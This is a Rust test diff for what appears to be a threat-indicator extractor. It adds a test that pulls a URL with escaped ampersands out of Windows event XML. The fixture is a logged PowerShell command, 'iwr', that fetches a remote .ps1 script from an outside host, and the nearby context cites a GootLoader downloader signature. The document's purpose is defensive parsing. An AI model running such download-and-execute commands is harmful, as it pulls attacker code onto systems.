@@ -1545,6 +1545,23 @@ fn cve_references_of_ids_rules_are_found() {
 }
 
 #[test]
+fn links_with_escaped_ampersands_in_xml_are_whole() {
+    // A Windows event's XML escapes `&` as `&amp;`: the link runs on past
+    // it, and its value has the `&` back.
+    let xml = "<Data Name=\"CommandLine\">powershell -c iwr https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2</Data>\n";
+    assert_eq!(
+        found_raw(xml),
+        vec![(
+            "url".to_owned(),
+            "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&t=1740699892&v=2".to_owned(),
+            "https://files.brightwater-sync.com/k.ps1?id=SRV-APP03&amp;t=1740699892&amp;v=2"
+                .to_owned(),
+            false
+        )]
+    );
+}
+
+#[test]
 fn clamav_hash_signatures_give_their_digests() {
     // `.hdb`/`.hsb` lines: the digest, the file's size (or `*`), the name.
     let sigs = "a72c148d2504bb43ecb7c9cff4d839cd:48211:Js.Downloader.GootLoader-10042117-0\n\
